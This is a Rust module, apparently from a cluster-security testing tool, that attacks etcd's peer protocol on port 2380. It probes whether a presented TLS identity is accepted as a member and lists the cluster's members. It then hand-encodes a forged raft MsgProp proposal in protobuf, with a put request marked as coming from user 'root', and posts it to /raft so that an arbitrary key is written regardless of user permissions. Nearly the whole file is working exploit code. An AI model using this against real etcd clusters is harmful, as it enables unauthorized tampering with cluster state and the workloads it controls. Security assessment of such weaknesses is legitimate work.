//! etcd's peer protocol: what one who passes its TLS as a member can do.
//!
//! Members send each other raft messages as protobuf over HTTP. A proposal (`MsgProp`) is what a follower forwards to
//! the leader; its entry is a request as etcd itself would have made it, the user's name included. So whoever is let
//! in as a peer writes any key, whatever etcd's users may do.

use fleet_https::{Connection, request};
use serde_json::Value;

use super::etcd::voter_doors;
use super::foothold::{Credential, Door, Foothold};
use super::{Arena, Finding};

const PEER_PORT: u16 = 2380;
const CLUSTER: &str = "x-etcd-cluster-id";

/// The cluster, as a peer learns it.
struct Members {
    /// Hexadecimal.
    cluster: String,
    ids: Vec<(String, u64)>,
}

/// Whether a member lets the attacker in as a peer.
pub fn peer(arena: &Arena, from: &Foothold) -> Finding {
    let let_in = from.run(|| async {
        let (door, shown, members) = members(arena, from).await?;
        let who = shown.map_or("no certificate", |s| s.name.as_str());
        Ok::<_, String>(format!("{}:{PEER_PORT} as {who}: {} members", door.host, members.ids.len()))
    });
    let_in.map_or_else(Finding::no, Finding::yes)
}

/// Proposes a put to the cluster as one of its members does. Returns how; whether it took effect is to be looked at.
pub fn propose(arena: &Arena, from: &Foothold, key: &str, value: &str) -> Result<String, String> {
    from.run(|| async {
        let (_, shown, members) = members(arena, from).await?;
        let mut last = String::new();
        // The leader takes it, a follower forwards it.
        for door in from.reachable(voter_doors(arena, from, PEER_PORT)).await {
            let Some((_, to)) = members.ids.iter().find(|(name, _)| *name == door.name) else { continue };
            let Some((_, as_member)) = members.ids.iter().find(|(name, _)| *name != door.name) else { continue };
            let message = proposal(*as_member, *to, key, value);
            let own = format!("{as_member:x}");
            let headers = [
                (CLUSTER, members.cluster.as_str()),
                ("x-server-from", own.as_str()),
                ("x-server-version", "3.6.0"),
                ("x-min-cluster-version", "3.0.0"),
            ];
            match from.ask(&door, shown, ("POST", "/raft"), &headers, message).await {
                Ok(_) => return Ok(format!("raft proposal to {}:{PEER_PORT}", door.host)),
                Err(e) => last = e,
            }
        }
        Err(last)
    })
}

/// The first member that lets the attacker in, with what, and what it says of the cluster.
async fn members<'a>(arena: &Arena, from: &'a Foothold) -> Result<(Door, Option<&'a Credential>, Members), String> {
    let mut last = format!("port {PEER_PORT} is filtered or closed");
    for door in from.reachable(voter_doors(arena, from, PEER_PORT)).await {
        for shown in from.shown() {
            match list(from, &door, shown).await {
                Ok(members) => return Ok((door, shown, members)),
                Err(e) => last = e,
            }
        }
    }
    Err(last)
}

async fn list(from: &Foothold, door: &Door, shown: Option<&Credential>) -> Result<Members, String> {
    let identity = shown.map(|own| fleet_https::Identity { cert: &own.cert, key: &own.key });
    let tls = fleet_https::client(&from.root, identity).map_err(|e| e.to_string())?;
    let asked = async {
        let mut connection = Connection::open(&door.host, door.port, &door.name, &tls).await?;
        let answer = connection.send(request("GET", &door.host, "/members", &[], bytes::Bytes::new())?).await?;
        let status = answer.status();
        let cluster = answer.headers().get(CLUSTER).and_then(|v| v.to_str().ok()).map(str::to_owned);
        // The body comes with a request of its own: this one's headers are what was asked for.
        let mut connection = Connection::open(&door.host, door.port, &door.name, &tls).await?;
        let body = connection.ask(request("GET", &door.host, "/members", &[], bytes::Bytes::new())?, 1 << 20).await?;
        Ok::<_, firstboot::error::Error>((status, cluster, body))
    };
    let (status, cluster, body) = asked.await.map_err(|e| e.to_string())?;
    let cluster = cluster.ok_or_else(|| format!("{status} without a cluster's id"))?;
    let listed: Vec<Value> = serde_json::from_slice(&body).map_err(|e| e.to_string())?;
    let id = |member: &Value| Some((member["name"].as_str()?.to_owned(), member["id"].as_u64()?));
    Ok(Members { cluster, ids: listed.iter().filter_map(id).collect() })
}

/// A `raftpb.Message` of type `MsgProp` with one entry: a put.
fn proposal(from: u64, to: u64, key: &str, value: &str) -> Vec<u8> {
    const MSG_PROP: u64 = 2;
    // In the name of etcd's administrator, at any revision of its users.
    let header = [number(1, 0x6261_6b65), text(2, "root"), number(3, u64::from(u32::MAX))].concat();
    let put = [text(1, key), text(2, value)].concat();
    // etcdserverpb.InternalRaftRequest: put is field 4, header 100.
    let request = [bytes(4, &put), bytes(100, &header)].concat();
    // raftpb.Entry: data is field 4.
    let entry = bytes(4, &request);
    [number(1, MSG_PROP), number(2, to), number(3, from), bytes(7, &entry)].concat()
}

/// A protobuf field with a varint.
fn number(field: u64, value: u64) -> Vec<u8> {
    [varint(field << 3), varint(value)].concat()
}

/// A protobuf field with a length.
fn bytes(field: u64, value: &[u8]) -> Vec<u8> {
    [varint(field << 3 | 2), varint(value.len() as u64), value.to_vec()].concat()
}

fn text(field: u64, value: &str) -> Vec<u8> {
    bytes(field, value.as_bytes())
}

fn varint(mut value: u64) -> Vec<u8> {
    let mut out = Vec::new();
    while value >= 0x80 {
        out.push(value as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn protobuf_fields_are_encoded_as_the_format_says() {
        // Both are examples of protobuf's own documentation.
        assert_eq!(number(1, 150), [0x08, 0x96, 0x01]);
        assert_eq!(text(2, "testing"), *b"\x12\x07testing");
    }
}
